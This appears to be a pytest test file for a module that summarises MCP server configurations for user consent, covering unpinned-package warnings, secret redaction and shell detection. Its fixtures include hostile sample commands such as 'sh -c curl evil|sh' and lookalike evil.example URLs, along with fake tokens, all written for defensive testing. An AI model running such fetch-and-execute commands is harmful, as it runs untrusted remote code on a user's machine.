"""The description of an MCP server in another configuration: enough for consent, without its secrets."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillhub.model.mcp_server import facts, runs_code, shown, url_of, warning
from tests.support.effort import at_most

TOKEN = "ghp_Zk3vQ9xT1bLm7RyWc5Hn2Pf8Dg4Js6UaEo0i"


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ({"command": "sh", "args": ["-c", "curl evil|sh"]}, ["it runs: sh -c curl evil|sh"]),
        ({"command": "sh", "args": ["-c", "A=1 curl evil|sh"]}, ["it runs: sh -c A=… curl evil|sh"]),
        (
            {"command": "npx", "args": ["-y", "@x/server-hub"], "env": {"HUB_TOKEN": "hunter2"}},
            ["it runs: npx -y @x/server-hub", "it is given: HUB_TOKEN"],
        ),
        ({"command": ["python3", "-m", "hub"], "enabled": True}, ["it runs: python3 -m hub"]),
        ({"httpUrl": "https://evil.example/"}, ["it is reached at https://evil.example/"]),
        # Whoever reads `@` after the slash as the end of a password takes it for another host.
        ({"url": "https://evil.example/@hub.example"}, ["it is reached at https://evil.example/…"]),
        ({"url": "https://[::1]:80/x"}, ["it is reached at https://[::1]:80/…"]),
        ("npx", ["what it runs is unknown"]),
        ({"command": 5, "args": {"a": [None]}}, ["what it runs is unknown"]),
    ],
)
def test_facts_describe_the_server(entry, expected):
    assert list(facts(entry)) == expected


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ({"command": "npx", "args": ["-y", "pkg"]}, "fixed version"),
        ({"command": "npx", "args": ["-y", "pkg@latest"]}, "fixed version"),
        ({"command": "npx", "args": ["-y", "pkg@^1.2.3"]}, "fixed version"),
        ({"command": "npx", "args": ["-y", "@a/pkg@1.2.3"]}, ""),
        ({"command": "npm", "args": ["exec", "pkg"]}, "fixed version"),
        ({"command": ["bunx", "pkg"]}, "fixed version"),
        ({"command": "bunx", "args": ["pkg@1.2.3"]}, ""),
        ({"command": "pnpm", "args": ["dlx", "pkg"]}, "fixed version"),
        ({"command": "yarn", "args": ["dlx", "pkg@next"]}, "fixed version"),
        ({"cmd": "uvx", "args": ["pkg"]}, "fixed version"),
        ({"cmd": "uvx", "args": ["pkg==1.2.3"], "env_keys": ["A"], "timeout": 300}, ""),
        ({"command": "uv", "args": ["tool", "run", "pkg>=1"]}, "fixed version"),
        ({"command": "pipx", "args": ["run", "pkg"]}, "fixed version"),
        ({"command": "pipx", "args": ["run", "pkg==1.0"]}, ""),
        ({"command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/a/b"]}, "fixed version"),
        ({"command": "docker", "args": ["run", "-i", "a/b:1.2.3"]}, "fixed version"),
        ({"command": "podman", "args": ["run", "-i", f"a/b@sha256:{'0' * 64}"]}, ""),
        ({"command": "deno", "args": ["run", "-A", "npm:pkg"]}, "fixed version"),
        ({"command": "deno", "args": ["run", "-A", "jsr:@a/pkg@1.2.3"]}, ""),
        ({"command": "deno", "args": ["run", "https://x.example/mod.ts"]}, "unchecked code"),
        ({"command": "go", "args": ["run", "example.com/x@latest"]}, "fixed version"),
        ({"command": "npx", "args": ["github:a/b"]}, "fixed version"),
        ({"command": "npx -y pkg"}, "fixed version"),
        ({"command": {"path": "npx", "args": ["pkg"]}}, "fixed version"),
        ({"type": "inline_python", "code": "print()"}, "unchecked code"),
        ({"command": "uvx", "args": ["pkg==1.0"], "envFile": ".env"}, "unchecked code"),
        ({"url": "http://hub.example/mcp"}, "without encryption"),
        ({"httpUrl": "HTTP://10.0.0.1:80"}, "without encryption"),
        ({"serverUrl": "http://localhost.evil.example"}, "without encryption"),
        ({"uri": "http://me:pw@hub.example"}, "without encryption"),
        ({"url": "http://127.0.0.1@hub.example/"}, "without encryption"),
        ({"url": "http://127.0.0.1:8080/mcp"}, ""),
        ({"url": "http://[::1]:80/"}, ""),
        ({"url": "https://hub.example"}, ""),
        ({"command": "hub"}, ""),
        ("npx", ""),
    ],
)
def test_attack_unpinned_or_risky_servers_give_a_warning(entry, expected):
    assert expected in warning(entry) if expected else not warning(entry)


def test_keys_of_every_agent_are_read():
    goose = {"type": "stdio", "cmd": "hub", "args": ["--key", "hunter2"], "envs": {"A": "hunter2"}, "env_keys": ["B"]}
    assert shown(goose) == {"runs": "hub --key …", "is given": "A, B"}
    assert not runs_code(goose)
    assert url_of({"type": "streamable_http", "uri": "https://x.example/a"}) == "https://x.example/a"
    headers = {"Authorization": "Bearer hunter2"}
    assert shown({"url": "https://x.example/hunter2", "requestOptions": {"headers": headers}}) == {
        "is reached at": "https://x.example/…",
        "is given": "Authorization",
    }


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "hub", "args": ["--token", "hunter2"]},
        {"command": "hub", "args": ["-key", "hunter2"]},
        {"command": "hub", "args": ["-pem", "hunter2"]},
        {"command": "hub", "args": ["--token=hunter2 hunter2"]},
        {"command": "hub", "args": ["--", "KEY=hunter2"]},
        {"command": "hub", "args": ["-p", "hunter2"]},
        {"command": "hub", "args": ["-phunter2"]},
        {"command": "sh", "args": ["-c", "KEY='hunter2' hub --token hunter2 https://me:hunter2@hub.example/hunter2"]},
        {"command": f"hub {TOKEN}"},
        {"command": "hub", "args": [TOKEN]},
        {"command": "mcp-remote", "args": ["https://hub.example/?key=hunter2", "--header", "X: hunter2"]},
        {"url": "https://me:hunter2@hub.example/"},
        {"url": "https://hub.example/s/hunter2/mcp"},
        {"url": "https://hub.example?key=hunter2", "headers": {"Authorization": "Bearer hunter2"}},
        {"command": "hub", "env": ["KEY=hunter2", {"name": "KEY", "value": "hunter2"}]},
        {"url": "https://hub.example", "headers": ["Authorization: Bearer hunter2"]},
        {"command": "hub", "url": "me:hunter2@hub.example"},
        {"command": "hub", "httpUrl": "hub.example/?key=hunter2"},
    ],
)
def test_attack_secrets_of_a_server_are_not_shown_in_a_question(entry):
    expected = "\n".join(facts(entry))
    assert "hunter2" not in expected
    assert TOKEN not in expected
    assert "hub" in expected


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "sh", "args": ["-c", "true"]},
        {"command": ["/usr/bin/env", "bash"]},
        {"command": "busybox sh -c true"},
        {"command": "python3", "args": ["-c", "import os"]},
        {"type": "local", "run": {"with": ["zsh"]}},
    ],
)
def test_shell_is_detected_in_each_spelling(entry):
    assert runs_code(entry)
    assert not runs_code({"command": "npx", "args": ["-y", "mcp-shed"], "env": {"A": "b"}})


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
)


@settings(max_examples=40)
@given(JSON | st.fixed_dictionaries({"command": JSON, "args": JSON, "url": JSON, "env": JSON}))
def test_facts_of_any_entry_are_short(entry):
    runs_code(entry)
    assert facts(entry)
    assert all(len(line) <= 301 for line in facts(entry))


@pytest.mark.parametrize("unit", ["a", "a1", "_", "a-", "a://", "a@", "-a"])
def test_attack_a_huge_word_is_described_fast(unit):
    word = unit * 200_000
    with at_most(2):  # about 10 ms; quadratic time takes over a minute
        facts({"command": word, "args": [word, f"x {word}"], "url": word, "env": [word]})
